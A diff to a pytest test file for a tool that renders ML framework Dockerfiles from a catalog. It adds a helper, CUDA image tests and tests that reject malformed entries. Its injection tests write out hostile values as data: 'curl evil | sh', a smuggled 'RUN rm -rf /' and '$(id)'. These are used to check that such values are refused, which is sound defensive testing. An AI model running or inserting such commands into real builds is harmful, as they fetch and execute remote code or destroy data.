@@ -19,6 +19,15 @@ def catalog():
     return load_catalog()
 
 
+def load_changed_catalog(tmp_path: Path, needle: str, replacement: str):
+    """The real catalog with one edit, loaded from a copy."""
+    text = CATALOG.read_text()
+    assert needle in text
+    path = tmp_path / "catalog.yaml"
+    path.write_text(text.replace(needle, replacement, 1))
+    return load_catalog(path)
+
+
 def stages(dockerfile: str) -> list[str]:
     return dockerfile.split("\nFROM ")[1:]
 
@@ -76,8 +85,8 @@ def test_labels_carry_oci_keys_and_entry_hash(catalog):
 @pytest.mark.parametrize(
     "needle, replacement, key_path",
     [
-        ('"mxnet==1.9.1", "numpy<1.24", "pillow', '"mxnet==1.9.1 && curl evil | sh", "pillow', "images.6.pip.0"),
-        ("apt: [libgomp1,", 'apt: ["libgomp1\\nRUN rm -rf /",', "images.6.apt.0"),
+        ('"mxnet==1.9.1", "numpy<1.24", "pillow', '"mxnet==1.9.1 && curl evil | sh", "pillow', "images.8.pip.0"),
+        ("apt: [libgomp1,", 'apt: ["libgomp1\\nRUN rm -rf /",', "images.8.apt.0"),
         (
             'TF_CPP_MIN_LOG_LEVEL: "2"}\n    description: TensorFlow 2.21 CPU',
             'TF_CPP_MIN_LOG_LEVEL: "2 $(id)"}\n    description: TensorFlow 2.21 CPU',
@@ -87,14 +96,8 @@ def test_labels_carry_oci_keys_and_entry_hash(catalog):
     ],
 )
 def test_injection_is_refused_before_rendering(tmp_path, needle, replacement, key_path):
-    text = CATALOG.read_text()
-    assert needle in text
-    path = tmp_path / "catalog.yaml"
-    path.write_text(text.replace(needle, replacement, 1))
-    from orchestrator.catalog import load_catalog as load
-
     with pytest.raises(SpecError) as caught:
-        load(path)
+        load_changed_catalog(tmp_path, needle, replacement)
     assert caught.value.key_path == key_path
     assert "matching" in caught.value.expected
 
@@ -102,3 +105,37 @@ def test_injection_is_refused_before_rendering(tmp_path, needle, replacement, ke
 def test_unbuildable_entry_says_why(catalog):
     tf1 = catalog.find("tensorflow", "1.15.5")[0]
     assert "Python <= 3.7" in tf1.unbuildable
+
+
+def test_cuda_base_images_install_python_in_both_stages(catalog):
+    tf = catalog.find("tensorflow", "2.21.0", "gpu-cudabase")[0]
+    build_stage, runtime_stage = stages(render(catalog, tf, ca_bundle=True, wheelhouse=False))
+    assert build_stage.startswith("nvidia/cuda:12.5.1-cudnn-runtime-ubuntu22.04 AS build")
+    assert "install -y --no-install-recommends python3 python3-venv python3-pip" in build_stage
+    assert "'tensorflow==2.21.0'" in build_stage and "and-cuda" not in build_stage
+    assert "install -y --no-install-recommends python3 python3-venv python3-pip" in runtime_stage
+
+
+def test_pypi_cuda_wheels_need_no_cuda_base(catalog):
+    tf = catalog.find("tensorflow", "2.21.0", "gpu")[0]
+    dockerfile = render(catalog, tf, ca_bundle=False, wheelhouse=False)
+    assert dockerfile.count("FROM benchmatrix/base:bookworm") == 2
+    assert "'tensorflow[and-cuda]==2.21.0'" in dockerfile and "python3-venv" not in dockerfile
+
+
+def test_an_old_cuda_build_says_which_gpus_it_runs_on(catalog):
+    cu100 = catalog.find("mxnet", "1.9.0", "cu100")[0]
+    assert cu100.gpu_support == "CUDA 10.0: runs on GPUs up to compute capability 7.5 (Turing), not on newer ones"
+    assert "'mxnet-cu100==1.9.0'" in render(catalog, cu100, ca_bundle=False, wheelhouse=False)
+
+
+@pytest.mark.parametrize(
+    ("needle", "replacement", "message"),
+    [
+        ('    cuda: "10.0"', '    cuda: "9.2"', "CUDA 9.2 is older than any this tool knows"),
+        ("    variant: cu100\n    device: gpu\n", "    variant: cu100\n", "'cuda' is for GPU images"),
+    ],
+)
+def test_bad_cuda_fields_are_refused(tmp_path, needle, replacement, message):
+    with pytest.raises(SpecError, match=message):
+        load_changed_catalog(tmp_path, needle, replacement)
